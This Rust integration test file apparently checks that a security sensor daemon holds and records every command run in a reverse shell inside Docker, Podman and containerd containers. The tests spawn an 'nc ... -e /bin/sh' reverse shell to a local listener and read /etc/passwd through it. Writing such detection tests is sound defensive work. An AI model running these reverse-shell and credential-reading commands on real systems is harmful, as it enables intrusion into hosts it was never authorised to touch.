//! Commands in containers wait in execve(2) too, where the daemon holds: their roots are filesystems of their own, which
//! are mounted while it runs.

use std::process::{Command, Stdio};

use crate::common::alone;
use crate::common::attacker::Listener;
use crate::common::daemon::Daemon;
use crate::common::finding::Finding;
use crate::common::victim::Victim;
use crate::cri::Pod;
use crate::docker::Docker;
use crate::podman::Podman;
use crate::{require_containerd, require_docker, require_podman};

/// Who waits too long on a busy machine is let go, and seen live: one of three shells has to be held with all that it
/// executes.
fn is_held(daemon: &Daemon, start: &dyn Fn(&str) -> Command) {
    let all = |found: &Finding| found.count() == 7 && found.observed("held") == 7;
    let mut found = shell(daemon, start);
    for _ in 0..2 {
        if !all(&found) {
            found = shell(daemon, start);
        }
    }
    assert!(all(&found), "{} of {}: {}", found.observed("held"), found.count(), found.brief());
    assert_eq!(found.text("Observation"), "held", "{}", found.brief());
    assert_eq!(found.text("Process_Binary_Fullpath"), "/bin/busybox", "{}", found.brief());
}

/// A reverse shell and what is executed in it.
fn shell(daemon: &Daemon, start: &dyn Fn(&str) -> Command) -> Finding {
    let attacker = Listener::tcp();
    let mut command = start(&format!("nc 127.0.0.1 {} -e /bin/sh", attacker.port()));
    command.stdin(Stdio::null()).stdout(Stdio::null());
    let victim = Victim::spawn(command);
    let mut session = attacker.accept();
    for _ in 0..3 {
        session.run("/bin/cat /etc/passwd; /bin/id");
    }
    let found = daemon.wait_for("a shell and six commands, each held", |record| {
        record.peer_port() == Some(attacker.port()) && record.count() >= 7
    });
    session.exit();
    drop(victim);
    found
}

fn holding() -> Daemon {
    Daemon::start("[sensor]\nfanotify = \"hold\"\n")
}

#[test]
fn held_in_docker() {
    require_docker!();
    let _alone = alone();
    let (docker, daemon) = (Docker::shared(), holding());
    let container = docker.sleeper();
    is_held(&daemon, &|line| container.exec(line));
}

#[test]
fn held_in_podman() {
    require_podman!();
    let _alone = alone();
    let (podman, daemon) = (Podman::shared(), holding());
    let container = podman.sleeper("runc");
    is_held(&daemon, &|line| container.exec(line));
}

#[test]
fn held_in_a_pod() {
    require_containerd!();
    let _alone = alone();
    let daemon = holding();
    let pod = Pod::run("sleep 600");
    is_held(&daemon, &|line| pod.exec(line));
}
